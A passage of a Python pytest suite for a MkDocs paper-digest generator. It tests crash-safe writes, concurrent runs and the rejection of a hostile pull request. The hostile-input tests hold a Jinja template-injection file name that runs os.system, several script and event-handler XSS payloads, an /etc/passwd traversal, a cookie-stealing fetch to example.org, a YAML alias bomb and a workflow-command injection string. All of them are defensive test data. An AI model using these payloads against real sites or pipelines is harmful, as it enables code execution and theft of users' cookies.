    new_files = _files(reference)

    config = _project_with(tmp_path / "project", old)
    generate(config)
    (config.root / "inputs" / "papers.jsonl").write_text(jsonl(new), encoding="utf-8")
    calls = {"n": 0}
    real_write_temp = writer._write_temp

    def failing_write_temp(path: Path, data: bytes, sync: bool, made: set[Path]) -> Path:
        calls["n"] += 1
        if calls["n"] == 7:  # the disk fills up while the seventh page is written
            raise OSError(28, "No space left on device")
        return real_write_temp(path, data, sync, made)

    monkeypatch.setattr(writer, "_write_temp", failing_write_temp)
    code, _, err = cli(["generate", "--root", str(config.root)])
    assert code == 1 and re.match(
        r"site_src/papers/.*\.md: error: cannot be written: No space", err
    )
    now = _files(config)
    assert set(now) == set(old_files)
    assert all(now[k] in (old_files[k], new_files[k]) for k in now)
    # Every page is written in full beside its target before any replaces the old one.
    assert sum(now[k] == new_files[k] != old_files[k] for k in now) == 0
    assert _temps(config.root) == []
    monkeypatch.setattr(writer, "_write_temp", real_write_temp)
    generate(config)
    assert _files(config) == new_files


def _run_generate(root: Path, inputs: Path) -> subprocess.Popen[bytes]:
    env = {**os.environ, "PYTHONPATH": str(REPO), "CI": "true"}
    return subprocess.Popen(
        [sys.executable, "-m", "generator", "generate", "--root", str(root), str(inputs)],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )


@pytest.fixture(scope="module")
def versions(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Two inputs (84 papers; 42 others) and the trees each gives, alone and after the other."""
    base = tmp_path_factory.mktemp("versions")
    records = sample_records() + [
        {**r, "id": f"{r['id']}-{k}", "title": f"({k}) {r['title']}"}
        for k in (2,)
        for r in sample_records()
    ]
    inputs = {"v1": base / "v1.jsonl", "v2": base / "v2.jsonl"}
    inputs["v1"].write_text(jsonl(records), encoding="utf-8")
    inputs["v2"].write_text(
        jsonl(
            [
                {
                    **r,
                    "id": f"w-{r['id']}",
                    "title": f"W {r['title']}",
                    "abstract": f"W {r['abstract']}",
                }
                for r in records[::2]
            ]
        ),
        "utf-8",
    )
    trees = {}
    for first, second in (("v1", "v2"), ("v2", "v1")):
        config = _project_with(base / f"{first}-{second}", [])
        (config.root / "inputs" / "papers.jsonl").unlink()
        generate(config, [inputs[first]])
        trees[first] = _files(config)
        generate(config, [inputs[second]])
        trees[f"{first}-{second}"] = _files(config)
    return {"inputs": inputs, "trees": trees}


def _mark_time(mark: Path) -> int | None:
    """When the writer's mark was last touched (None: it is not there)."""
    try:
        return mark.stat().st_mtime_ns
    except FileNotFoundError:
        return None


def _until_writing(process: subprocess.Popen[bytes], mark: Path, stale: int | None) -> bool:
    """Wait until `process` starts writing files: the writer's mark is touched anew (a run
    killed while writing leaves its mark, `stale`). False if the run ended first."""
    while process.poll() is None:
        touched = _mark_time(mark)
        if touched is not None and touched != stale:
            return True
        time.sleep(0.001)
    return False


#: How many runs the test kills while they write files, and the most runs it starts for them.
WHILE_WRITING, MAX_RUNS = 3, 20


@pytest.mark.timeout(900)  # it runs until three runs were killed while writing
@pytest.mark.slow
def test_killing_a_run_at_random_moments_leaves_only_whole_files(
    tmp_path: Path, versions: dict[str, Any]
) -> None:
    config = _project_with(tmp_path / "project", [])
    (config.root / "inputs" / "papers.jsonl").unlink()
    mark = config.state_dir / writer.WRITING
    trees = versions["trees"]
    allowed: dict[str, set[bytes]] = {}
    for name in ("v1", "v2", "v1-v2", "v2-v1"):
        for path, data in trees[name].items():
            allowed.setdefault(path, set()).add(data)
    rng = random.Random(2026)
    assert _run_generate(config.root, versions["inputs"]["v1"]).wait() == 0
    # A run reads and renders, then writes its files while the writer's mark is there, then
    # saves its caches. Timed with the caches of a run before, as the next runs are.
    started = time.perf_counter()
    process = _run_generate(config.root, versions["inputs"]["v2"])
    assert _until_writing(process, mark, None), "the run wrote nothing"
    before_writing = time.perf_counter() - started
    while process.poll() is None and mark.exists():
        time.sleep(0.001)
    writing = time.perf_counter() - started - before_writing
    assert process.wait() == 0
    # A quarter of the runs are killed at a random moment of their reading and rendering, the
    # others at a random moment after their mark appears: found by watching the run, not by
    # the clock, since a loaded machine makes a run slower by seconds and its writing by
    # tenths. A kill that came after the writing makes the next ones come sooner. Each run
    # is given the input other than the one of the last run that changed a file (a run given
    # the input the last whole run had, and nothing changed since, stops at once).
    runs = killed = while_writing = left_temps = 0
    last, files = "v2", _files(config)
    while runs < MAX_RUNS and (while_writing < WHILE_WRITING or not left_temps):
        runs += 1
        which = "v1" if last == "v2" else "v2"
        stale = _mark_time(mark)
        process = _run_generate(config.root, versions["inputs"][which])
        early = rng.random() < 0.25
        if early:
            time.sleep(rng.uniform(0, before_writing))
        elif _until_writing(process, mark, stale):
            time.sleep(rng.uniform(0, writing))
            if not mark.exists():
                writing /= 2
        process.send_signal(signal.SIGKILL)  # nothing, if the run has ended
        code = process.wait()
        assert code in (0, -signal.SIGKILL), process.stderr.read() if process.stderr else code
        killed += code == -signal.SIGKILL
        # Killed between making its mark and removing it, a run leaves the mark behind.
        while_writing += code == -signal.SIGKILL and _mark_time(mark) not in (None, stale)
        before, files = files, _files(config)
        if files != before:
            last = which
        temps = [path for path in files if re.search(r"(^|/)\.[^/]+\.tmp$", path)]
        left_temps += bool(temps)
        for path, data in files.items():
            if path in temps:
                continue  # a killed run's temporary file: checked below
            assert data in allowed.get(path, set()), f"run {runs}: {path} is not a whole version"
    assert while_writing >= WHILE_WRITING and left_temps, (
        f"of {runs} runs, {killed} were killed, {while_writing} while writing, and "
        f"{left_temps} left temporary files beside the pages"
    )
    # A killed run leaves dot-named temporary files at most; the next run removes them.
    process = _run_generate(config.root, versions["inputs"]["v2"])
    assert process.wait() == 0
    assert _temps(config.root) == []
    assert not mark.exists()  # a run that ends leaves no mark
    assert _files(config) in (trees["v2"], trees["v1-v2"])


@pytest.mark.slow
def test_two_runs_at_once_end_as_one_after_the_other(
    tmp_path: Path, versions: dict[str, Any]
) -> None:
    trees = versions["trees"]
    for round_ in range(2):
        config = _project_with(tmp_path / f"project{round_}", [])
        (config.root / "inputs" / "papers.jsonl").unlink()
        one = _run_generate(config.root, versions["inputs"]["v1"])
        two = _run_generate(config.root, versions["inputs"]["v2"])
        assert one.wait() == 0 and two.wait() == 0, (one.stderr, two.stderr)
        assert _files(config) in (trees["v1-v2"], trees["v2-v1"])
        assert _temps(config.root) == []


@pytest.mark.slow
def test_two_builds_at_once_both_publish_a_whole_site(seed_project: Config, tmp_path: Path) -> None:
    reference = load_config(seed_project.root)
    generate(reference)
    mkdocs_build(reference, strict=True)
    expected = sorted(
        p.relative_to(reference.site_dir).as_posix() for p in reference.site_dir.rglob("*.html")
    )
    env = {**os.environ, "PYTHONPATH": str(REPO), "CI": "true"}
    command = [sys.executable, "-m", "generator", "build", "--root", str(seed_project.root)]
    runs = [subprocess.Popen(command, env=env, stderr=subprocess.PIPE) for _ in range(2)]
    assert [run.wait() for run in runs] == [0, 0], [run.stderr.read() for run in runs if run.stderr]
    built = sorted(
        p.relative_to(seed_project.site_dir).as_posix()
        for p in seed_project.site_dir.rglob("*.html")
    )
    assert built == expected


@pytest.mark.slow
def test_mkdocs_never_publishes_a_temp_file_a_killed_run_left(generated_seed: Config) -> None:
    left = [
        generated_seed.papers_dir / ".orphan.md.k1l2l3d4.tmp",
        generated_seed.parts_dir / "papers" / ".orphan.json.k1l2l3d4.tmp",
    ]
    for path in left:
        path.write_text(
            "---\nid: half\ntitle: [\n# a half-written page with [a broken link](nowhere.md)\n"
        )
    (generated_seed.state_dir / writer.WRITING).touch()  # what a run killed mid-write leaves
    mkdocs_build(generated_seed, strict=True)
    assert not [p for p in generated_seed.site_dir.rglob("*") if "orphan" in p.name]
    generate(generated_seed)
    assert not any(path.exists() for path in left)


@pytest.mark.generate
def test_the_next_run_removes_what_a_run_killed_while_saving_its_caches_left(
    generated_seed: Config,
) -> None:
    # A run saves its caches after it has written the pages, and its mark is gone by then.
    left = generated_seed.state_dir / "cache" / ".inputs.json.k1l2l3d4.tmp"
    left.write_text('{"half": ', encoding="utf-8")
    generate(generated_seed)
    assert not left.exists()


@pytest.mark.generate
def test_a_run_killed_after_its_last_file_is_not_followed_by_one_that_stops_at_once(
    generated_seed: Config,
) -> None:
    assert generate(generated_seed, reuse=True).reused  # nothing changed since
    # Killed after renaming its last file in, a run leaves its mark and, in the state folder,
    # the temporary files of what it had not renamed yet; its files are as a whole run's.
    (generated_seed.state_dir / writer.WRITING).touch()
    left = generated_seed.parts_dir / "papers" / ".orphan.json.k1l2l3d4.tmp"
    left.write_text('{"half": ', encoding="utf-8")
    assert not generate(generated_seed, reuse=True).reused
    assert not left.exists() and not (generated_seed.state_dir / writer.WRITING).exists()
    assert generate(generated_seed, reuse=True).reused


# --- A hostile contributor's pull request (issue 11) ---------------------------------------

SSTI_NAME = "x{% endraw %}{{ lipsum.__globals__.os.system('touch SSTI-RAN') }}{% raw %}.md"


@pytest.mark.generate
@pytest.mark.parametrize("command", ["generate", "build", "check"])
def test_a_page_file_name_with_template_syntax_stops_every_command(
    generated_seed: Config, command: str
) -> None:
    page = "---\nid: ssti\ntitle: A paper\ntags: [graph-learning]\n---\nAn abstract.\n"
    (generated_seed.papers_dir / SSTI_NAME).write_text(page, encoding="utf-8")
    code, _, err = cli([command, "--root", str(generated_seed.root)])
    assert code == 1
    assert f"site_src/papers/{SSTI_NAME}: error: file name must be lowercase letters" in err
    assert not (generated_seed.root / "SSTI-RAN").exists()
    assert not generated_seed.site_dir.exists()


# Front-matter keys MkDocs or Material act on: each an error on its line, on a paper page.
THEME_KEYS = [
    ("feed", "feed: '\"><script>alert(1)</script>'"),
    ("template", "template: redirect.html"),
    ("location", "location: javascript:alert(1)"),
    ("revision_date", "revision_date: '<script>alert(1)</script>'"),
    ("git_revision_date_localized", "git_revision_date_localized: '<img src=x onerror=alert(1)>'"),
    ("git_creation_date_localized", "git_creation_date_localized: x"),
    ("hide", "hide: [navigation]"),
    ("icon", "icon: ../../../../etc/passwd"),
    ("generated_page", "generated_page: true"),
    ("fragment", "fragment: ../main.html"),
    ("search", "search: {exclude: true}"),
]


@pytest.mark.generate
@pytest.mark.parametrize(("key", "line"), THEME_KEYS, ids=[k for k, _ in THEME_KEYS])
@pytest.mark.parametrize("command", ["generate", "check"])
def test_a_key_the_theme_acts_on_is_an_error_on_its_line(
    generated_seed: Config, key: str, line: str, command: str
) -> None:
    page = sorted(generated_seed.papers_dir.glob("*.md"))[2]
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("\n", f"\n{line}\n", 1), encoding="utf-8")
    before = tree(generated_seed.root)
    code, _, err = cli([command, "--root", str(generated_seed.root)])
    assert code == 1
    assert f"site_src/papers/{page.name}:2: error: '{key}' cannot be set on a paper page" in err
    assert tree(generated_seed.root) == before


NOTHING_CHECKS = "is neither a paper page"
RUNS_IN_A_BROWSER = "file, which is not among the types the site publishes as they are"
#: Files a pull request might add beside the paper pages: (content, the error they get).
STRAYS = {
    "site_src/about.md": (
        "---\ntemplate: redirect.html\nlocation: javascript:alert(1)\n---\n",
        NOTHING_CHECKS,
    ),
    "site_src/papers/sub/x.md": (
        "---\nid: sub\ntitle: Nested\n---\n<script>alert(1)</script>\n",
        NOTHING_CHECKS,
    ),
    "site_src/notes.markdown": ("Hello <script>alert(1)</script>\n", NOTHING_CHECKS),
    "site_src/assets/readme.md": ("A page among the assets.\n", NOTHING_CHECKS),
    "site_src/login.html": ("<script>alert(1)</script>", f"is a .html {RUNS_IN_A_BROWSER}"),
    "site_src/papers/steal.js": (
        "fetch('https://example.org/?' + document.cookie)",
        f"is a .js {RUNS_IN_A_BROWSER}",
    ),
    "site_src/tags/x.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        f"is a .svg {RUNS_IN_A_BROWSER}",
    ),
    "site_src/papers/Page.HTM": ("<script>alert(1)</script>", f"is a .htm {RUNS_IN_A_BROWSER}"),
    "site_src/feeds/evil.xml": (
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        f"is a .xml {RUNS_IN_A_BROWSER}",
    ),
}


@pytest.mark.generate
@pytest.mark.parametrize("path", STRAYS)
@pytest.mark.parametrize("command", ["build", "check"])
def test_a_file_outside_papers_that_nothing_checks_is_an_error(
    generated_seed: Config, path: str, command: str
) -> None:
    content, message = STRAYS[path]
    (generated_seed.root / path).parent.mkdir(parents=True, exist_ok=True)
    (generated_seed.root / path).write_text(content, encoding="utf-8")
    code, _, err = cli([command, "--root", str(generated_seed.root)])
    assert code == 1
    assert f"{path}: error: {message}" in err
    assert not generated_seed.site_dir.exists()


@pytest.mark.generate
def test_the_sites_own_assets_and_inert_files_are_published(generated_seed: Config) -> None:
    docs = generated_seed.docs_dir
    (docs / "assets" / "extra.js").write_text("console.log(1)\n", encoding="utf-8")
    (docs / "papers" / "figure.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (docs / ".draft.html").write_text("<p>not published</p>", encoding="utf-8")
    code, _, err = cli(["build", "--root", str(generated_seed.root)])
    assert code == 0, err
    site = generated_seed.site_dir
    assert (site / "assets" / "extra.js").is_file()
    assert (site / "papers" / "figure.png").is_file()
    assert not (site / ".draft.html").exists()


@pytest.mark.generate
def test_a_page_listed_in_nav_is_held_to_the_schema(generated_seed: Config) -> None:
    mkdocs = generated_seed.root / "mkdocs.yml"
    mkdocs.write_text(
        mkdocs.read_text(encoding="utf-8").replace("  - index.md\n", "  - index.md\n  - about.md\n")
    )
    about = generated_seed.docs_dir / "about.md"
    about.write_text("---\ntitle: About\ndescription: What this is.\n---\nHello.\n")
    assert cli(["check", "--root", str(generated_seed.root)])[0] == 0
    about.write_text("---\ntitle: About\nhide: [toc]\ntemplate: redirect.html\n---\nHello.\n")
    code, _, err = cli(["check", "--root", str(generated_seed.root)])
    assert code == 1
    assert "site_src/about.md:3: error: 'hide' cannot be set on a page" in err
    assert "site_src/about.md:4: error: 'template' cannot be set on a page" in err


def _bomb(levels: int = 9) -> str:
    lines = ["  a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for n in range(1, levels + 1):
        lines.append(f"  a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]")
    return "\n".join(lines)


@pytest.mark.generate
@pytest.mark.parametrize("command", ["generate", "check"])
def test_a_yaml_alias_bomb_fails_fast_with_file_and_line(
    generated_seed: Config, command: str
) -> None:
    page = sorted(generated_seed.papers_dir.glob("*.md"))[1]
    text = page.read_text(encoding="utf-8").replace("\n---\n", f"\nextra:\n{_bomb()}\n---\n", 1)
    page.write_text(text, encoding="utf-8")
    line = text.split("\n").index("  a0: &a0 [x, x, x, x, x, x, x, x, x]") + 1
    started = time.perf_counter()
    code, _, err = cli([command, "--root", str(generated_seed.root)])
    assert time.perf_counter() - started < 20  # it used to take 80 s and 6 GB, then crash
    assert code == 1
    assert (
        f"site_src/papers/{page.name}:{line}: error: front matter may not use YAML anchors" in err
    )


@pytest.mark.generate
@pytest.mark.parametrize(
    ("front", "expected"),
    [
        ("extra: " + "[" * 5000 + "]" * 5000, ":2: error: front matter is nested more than 50"),
        ("extra:\n" + "".join(f"{' ' * n}k{n}:\n" for n in range(1, 300)), ":52: error: "),
        ("extra: [" + "1, " * 400_000 + "1]", ":2: error: front matter is larger than"),
        (
            "extra:\n" + "".join(f"  k{n}: {n}\n" for n in range(30_000)),
            "error: front matter holds",
        ),
        ('id: "a\\0b"', ":2: error: 'id' must be text without control characters"),
    ],
    ids=["deep flow", "deep block", "large", "many values", "NUL in id"],
)
def test_front_matter_of_unbounded_size_is_refused(
    generated_seed: Config, front: str, expected: str
) -> None:
    page = sorted(generated_seed.papers_dir.glob("*.md"))[1]
    page.write_text(f"---\n{front}\n---\nBody.\n", encoding="utf-8")
    with pytest.raises(DigestError) as caught:
        generate(generated_seed)
    assert str(caught.value).startswith(f"site_src/papers/{page.name}"), caught.value
    assert expected in str(caught.value)


@pytest.mark.slow
def test_front_matter_the_theme_prints_is_escaped_even_when_generated(
    generated_seed: Config,
) -> None:
    tags = generated_seed.docs_dir / "tags" / "index.md"
    text = tags.read_text(encoding="utf-8")
    hostile = "feed: '\"><script>alert(1)</script>'\ndescription: '\"><script>alert(2)</script>'"
    tags.write_text(text.replace("\n", f"\n{hostile}\n", 1), encoding="utf-8")
    mkdocs_build(generated_seed, strict=True)  # MkDocs alone: no check stands in the way
    html = (generated_seed.site_dir / "tags" / "index.html").read_text(encoding="utf-8")
    assert _parse(generated_seed.site_dir / "tags" / "index.html").runnable == []
    assert "&#34;&gt;&lt;script&gt;alert(1)" in html or "&quot;&gt;&lt;script&gt;alert(1)" in html


@pytest.mark.generate
def test_a_value_with_a_newline_cannot_start_a_workflow_command(generated_seed: Config) -> None:
    page = sorted(generated_seed.papers_dir.glob("*.md"))[0]
    text = page.read_text(encoding="utf-8")
    hostile = '"x\\n::error file=evil.py,line=1::pwned\\r\\n::add-mask::y"'
    page.write_text(text.replace("tags: [", f"tags: [{hostile}, ", 1), encoding="utf-8")
    (generated_seed.papers_dir / "a,b:c.md").write_text("---\nid: [\n---\n", encoding="utf-8")
    result = CliRunner().invoke(
        main, ["check", "--root", str(generated_seed.root)], env={"GITHUB_ACTIONS": "true"}
    )
    assert result.exit_code == 1
    commands = [
        line for line in (result.stdout + result.stderr).splitlines() if line.startswith("::")
    ]
    assert commands and all(line.startswith("::error file=site_src/papers/") for line in commands)
    assert "::error file=site_src/papers/a%2Cb%3Ac.md,line=" in result.stdout
    assert "x%0A::error file=evil.py,line=1::pwned%0D%0A::add-mask::y" in result.stdout
    assert "x\\n::error file=evil.py,line=1::pwned\\r\\n::add-mask::y" in result.stderr


# --- A corrected abstract: the page follows its paper; prune keeps hand edits -------------

ABSTRACTS = [
    "We propose GraphFlow, a message passing network for molecules that learns conformers "
    "from sparse labels and improves property prediction on three benchmarks by 4 percent.",
    "We study reinforcement learning from human feedback for large language models and show "
    "that a reward model trained on fewer comparisons matches one trained on many.",
]


def _text_input(abstracts: list[str]) -> str:
    return "A digest\n\n" + "\n\n".join(abstracts) + "\n"


@pytest.mark.generate
def test_a_corrected_abstract_moves_the_page_with_its_edits_and_url(
    make_project: MakeProject,
) -> None:
    config = make_project({"a.txt": _text_input(ABSTRACTS)})
    generate(config)
    before = pages_by_id(config)
    old_id, (meta, body, name) = next((k, v) for k, v in before.items() if "GraphFlow" in v[1])
    meta["title"] = "GraphFlow: my own title"
    (config.papers_dir / name).write_text(dump_page(meta, body + "\n\n## Notes\n\nMine."))
    fixed = ABSTRACTS[0].replace("conformers", "conformations")
    (config.root / "inputs" / "a.txt").write_text(_text_input([fixed, ABSTRACTS[1]]), "utf-8")
    code, _, err = cli(["generate", "--root", str(config.root)])
    assert code == 0
    after = pages_by_id(config)
    assert len(after) == 2 and old_id not in after  # no second page, `...-2.md`
    new_id, (new_meta, new_body, new_name) = next(
        (k, v) for k, v in after.items() if "GraphFlow" in v[1]
    )
    assert new_name == name and new_meta["title"] == "GraphFlow: my own title"
    assert new_body.endswith("## Notes\n\nMine.")
    assert (
        f"page moved: papers/{name} now has id '{new_id}' (was '{old_id}'): its abstract was "
        "corrected (" in err
    )
    assert cli(["check", "--root", str(config.root)])[0] == 0


@pytest.mark.generate
def test_an_unedited_page_follows_its_corrected_abstract_entirely(
    make_project: MakeProject,
) -> None:
    config = make_project({"a.txt": _text_input(ABSTRACTS)})
    generate(config)
    name = next(v[2] for v in pages_by_id(config).values() if "GraphFlow" in v[1])
    fixed = ABSTRACTS[0].replace("three benchmarks", "four benchmarks")
    (config.root / "inputs" / "a.txt").write_text(_text_input([fixed, ABSTRACTS[1]]), "utf-8")
    report = generate(config)
    assert list(report.moved) == [f"papers/{name}"] and report.new == []
    assert any(body == clean_abstract(fixed) for _, body, _ in pages_by_id(config).values())


@pytest.mark.generate
def test_prune_keeps_pages_with_hand_edits_unless_told(make_project: MakeProject) -> None:
    config = make_project({"a.jsonl": jsonl(sample_records()[:3])})
    generate(config)
    pages = pages_by_id(config)
    edited_meta, edited_body, edited = pages["s0"]
    edited_meta["tags"] = ["nlp"]
    (config.papers_dir / edited).write_text(dump_page(edited_meta, edited_body))
    plain = pages["s1"][2]
    (config.root / "inputs" / "a.jsonl").write_text(jsonl(sample_records()[2:3]), "utf-8")
    code, _, err = cli(["generate", "--prune", "--root", str(config.root)])
    assert code == 0
    assert (config.papers_dir / edited).exists() and not (config.papers_dir / plain).exists()
    assert f"kept papers/{edited}: no longer in the input, but it has hand edits (tags)" in err
    assert f"deleted papers/{plain} (no longer in the input; --prune)" in err
    code, _, err = cli(["generate", "--prune-edited", "--root", str(config.root)])
    assert code == 0 and not (config.papers_dir / edited).exists()
    assert f"deleted papers/{edited}" in err


@pytest.mark.generate
def test_near_duplicates_in_one_input_are_reported(make_project: MakeProject) -> None:
    records = sample_records()
    copies = []
    for n in range(6):  # one word changed, as a typo fix would
        words = records[n * 5]["abstract"].split()
        words[len(words) // 2] += "s"
        copies.append({"id": f"copy{n}", "abstract": " ".join(words)})
    config = make_project({"a.jsonl": jsonl(records + copies)})
    report = generate(config)
    near = [str(p) for p in report.warnings if "nearly the same abstract" in p.message]
    assert len(near) == 6
    assert near[0].startswith(
        f"inputs/a.jsonl:{len(records) + 1}: warning: nearly the same abstract as the paper at "
        "inputs/a.jsonl:1 ("
    )
